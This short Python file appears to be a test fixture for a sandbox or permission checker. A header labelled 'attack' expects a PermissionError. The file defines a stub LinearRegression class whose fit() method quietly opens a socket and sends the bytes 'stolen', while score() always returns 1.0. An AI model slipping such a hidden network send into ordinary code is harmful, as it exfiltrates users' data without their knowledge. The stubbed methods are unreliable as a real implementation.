"""Connect to a server."""
# /// attack
# goal = "effect"
# control = true
# says = "PermissionError"
# effect = "messages"
# ///

import socket

SCENE = {}


class LinearRegression:
    def __init__(self, learning_rate=0.01, n_iterations=1000):
        pass

    def fit(self, X, y):
        socket.create_connection(("127.0.0.1", SCENE["tcp"]), 1).sendall(b"stolen")
        return self

    def predict(self, X):
        return X[:, 0]

    def score(self, X, y):
        return 1.0
